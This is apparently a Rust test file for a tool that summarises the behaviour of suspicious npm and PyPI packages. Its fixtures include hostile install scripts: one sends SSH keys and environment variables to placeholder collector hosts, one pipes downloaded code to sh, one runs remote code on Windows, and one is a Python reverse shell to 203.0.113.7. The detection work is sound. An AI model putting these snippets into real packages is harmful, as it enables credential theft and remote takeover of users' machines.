//! The sentences on a package: what they say is what its code does, each word about a place leads there, and what is only named
//! is not said to be read.

use std::sync::Arc;
use std::time::Duration;

use cerebro::behavior::Reading;
use cerebro::case::Case;
use cerebro::case::story::brief;

use super::common::archives::{opened, tgz};

fn case(name: &str, files: &[(&str, &str)]) -> Case {
    let files: Vec<(&str, &[u8])> = files.iter().map(|(path, text)| (*path, text.as_bytes())).collect();
    Case::read(Arc::new(opened(name, &tgz(&files))), Duration::ZERO, &Reading::default())
}

fn npm(script: &str) -> Case {
    let manifest = r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node a.js"}}"#;
    case("demo-1.0.0.tgz", &[("package/package.json", manifest), ("package/a.js", script)])
}

fn pypi(setup: &str) -> Case {
    let info = "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n";
    case("demo-1.0.tar.gz", &[("demo-1.0/PKG-INFO", info), ("demo-1.0/setup.py", setup)])
}

fn told(case: &Case) -> String {
    brief(case).iter().map(|sentence| sentence.text()).collect::<Vec<_>>().join("\n")
}

#[test]
fn a_sentence_says_trigger_source_and_sink_with_their_lines() {
    let case = npm("const fs = require('fs');\n\
                    const key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa');\n\
                    fetch('https://collect.example.net/in', { method: 'POST', body: key });\n");
    let said = told(&case);
    assert!(said.starts_with("On installation, postinstall runs a.js: it reads SSH keys"), "{said}");
    assert!(said.contains("(2)") && said.contains("sends secrets"), "{said}");
    assert!(said.contains("to hxxps://collect[.]example[.]net/in (3)"), "{said}");
}

#[test]
fn every_word_about_a_place_leads_there() {
    let case = npm("require('child_process').exec('curl https://a.example.net/x.sh | sh');\n");
    let sentences = brief(&case);
    let places: Vec<_> = sentences.iter().flat_map(|s| s.parts()).filter_map(|part| part.place).collect();
    assert!(places.len() >= 3, "{sentences:?}");
    for (doc, span) in places {
        let source = case.source(doc).unwrap();
        assert!(span.is_none_or(|span| source.text.get(span.start..span.end).is_some_and(|text| !text.is_empty())));
    }
}

#[test]
fn what_is_named_is_not_said_to_be_read() {
    let said = told(&npm(
        "console.log('never commit id_rsa to a repository');\nrequire('https').get('https://a.example.net');\n",
    ));
    assert!(!said.contains("reads"), "{said}");
}

#[test]
fn what_a_condition_guards_has_it_in_the_words_of_the_code() {
    let setup = "import os, platform, urllib.request\nif platform.system() == 'Windows':\n    \
                 exec(urllib.request.urlopen('https://a.example.net/w').read())\n";
    let said = told(&pypi(setup));
    assert!(said.starts_with("On installation, setup.py "), "{said}");
    assert!(said.contains("downloads hxxps://a[.]example[.]net/w and runs it (3)"), "{said}");
    assert!(said.contains("only if platform.system() == 'Windows'"), "{said}");
    let other = setup.replace("== 'Windows':\n    ", "== 'Windows':\n    pass\nelse:\n    ");
    assert!(told(&pypi(&other)).contains("unless platform.system() == 'Windows'"), "{}", told(&pypi(&other)));
}

#[test]
fn a_command_sends_to_the_collector_that_it_names() {
    let said = told(&npm(
        "require('child_process').exec('curl -d \"$(hostname) $(curl ifconfig.me)\" https://x.oastify.com/a');\n",
    ));
    assert!(said.contains("to hxxps://x[.]oastify[.]com/a") || said.contains("to x[.]oastify[.]com"), "{said}");
}

#[test]
fn the_same_by_another_trigger_is_told_once() {
    let manifest = r#"{"name":"demo","version":"1.0.0","main":"a.js","scripts":{"preinstall":"node a.js"}}"#;
    let script = "fetch('https://collect.example.net/in', { method: 'POST', body: JSON.stringify(process.env) });\n";
    let case = case("demo-1.0.0.tgz", &[("package/package.json", manifest), ("package/a.js", script)]);
    let said = told(&case);
    assert_eq!(said.matches("collect[.]example").count(), 1, "{said}");
    assert!(said.ends_with("; so does the import."), "{said}");
}

#[test]
fn where_nothing_is_telling_that_is_said() {
    assert_eq!(told(&npm("console.log(1 + 1);\n")), "No behavior that tells something by itself was found.");
}

#[test]
fn the_same_in_the_same_words_is_said_once() {
    let said = told(&npm("const { spawn } = require('child_process');\nspawn('npm', ['a']);\nconst two = 2;\n\
                          spawn('npm', ['install', 'b']);\n"));
    assert_eq!(said.matches("npm").count(), 1, "{said}");
    assert!(said.contains("(2, 4)"), "{said}");
    let send = "urllib.request.urlopen('https://a.example.net/?q=' + os.getlogin() + '&r=' + os.getcwd())\n";
    let setup = format!("import os, urllib.request\ndef one():\n    {send}def two():\n    {send}one()\ntwo()\n");
    let said = told(&pypi(&setup));
    assert_eq!(said.matches("sends").count(), 1, "{said}");
}

#[test]
fn a_reverse_shell_is_no_name_of_a_program() {
    let setup = "import os, socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.7', 4242))\n\
                 for descriptor in (0, 1, 2):\n    os.dup2(s.fileno(), descriptor)\nsubprocess.call(['/bin/sh', '-i'])\n";
    let said = told(&pypi(setup));
    assert!(said.contains("starts sh") || said.contains("starts /bin/sh"), "{said}");
    assert!(!said.contains("sh, reverse"), "{said}");
}
